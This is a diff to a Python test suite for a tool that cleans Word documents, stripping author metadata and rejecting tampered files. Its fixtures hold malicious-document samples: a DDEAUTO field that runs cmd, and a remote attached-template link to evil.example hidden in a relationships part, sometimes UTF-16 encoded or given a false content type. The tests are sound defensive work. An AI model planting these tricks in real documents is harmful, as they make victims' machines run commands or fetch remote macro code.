@@ -175,7 +175,7 @@ def test_a_word_document_is_packed_anew_without_its_author() -> None:
         "word/who.xml": author,
         "docProps/APP.xml": author,
     }
-    parts |= {"word/media/p.png": picture("PNG"), "word/media/odd.png": b"<no picture"}
+    parts |= {"word/media/p.png": picture("PNG"), "word/media/odd.png": b"< no picture"}
     made = docx_clean(docx(parts=parts))
     with zipfile.ZipFile(BytesIO(made)) as seen:
         assert b"Secret Author" not in b"".join(seen.read(name) for name in seen.namelist())
@@ -190,6 +190,7 @@ MACROS = (
 )
 WORD_PART = "application/vnd.openxmlformats-officedocument.wordprocessingml."
 DDE = str(field("DDEAUTO c:\\\\windows cmd")["word/document.xml"])
+TEMPLATE = relations("https://evil.example/t.dotm", "attachedTemplate", name="x")["x"]
 STRICT_DDE = {
     "word/document.xml": DDE.replace(WORDS, "http://purl.oclc.org/ooxml/wordprocessingml/main")
 }
@@ -233,6 +234,36 @@ NO_DTD = '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
             "macros",
         ),
         (typed("word/x.dat", "image/png") | {"word/x.dat": DDE}, "macros"),
+        # What programs find by name is read as what it is, whatever its type says.
+        (
+            typed("word/_rels/settings.xml.rels", "image/png")
+            | {"word/_rels/settings.xml.rels": TEMPLATE.encode("utf-16")},
+            "cannot be opened",
+        ),
+        (
+            typed("word/_rels/settings.xml.rels", "image/png")
+            | {"word/_rels/settings.xml.rels": "<Relationships/>"},
+            "cannot be opened",
+        ),
+        (
+            typed("word/x.xml", "image/png") | {"word/x.xml": DDE.encode("utf-16")},
+            "cannot be opened",
+        ),
+        (typed("word/x.dat", "image/png") | {"word/x.dat": DDE.encode("utf-16")}, "cannot be"),
+        ({"word/media/odd.png": b"<no picture"}, "cannot be opened"),
+        (
+            typed("word/other.xml", f"{WORD_PART}document.main+xml") | {"word/other.xml": DDE},
+            "Add a PDF",
+        ),
+        (typed("word/document.xml", "image/png") | {"word/document.xml": DDE}, "Add a PDF"),
+        (
+            {
+                "[Content_Types].xml": str(DOCX_PARTS["[Content_Types].xml"]).replace(
+                    "/word/document.xml", "/word/gone.xml"
+                )
+            },
+            "Add a PDF",
+        ),
         # A part inside that is opened by its relationship and its type, not by its name.
         *(
             (
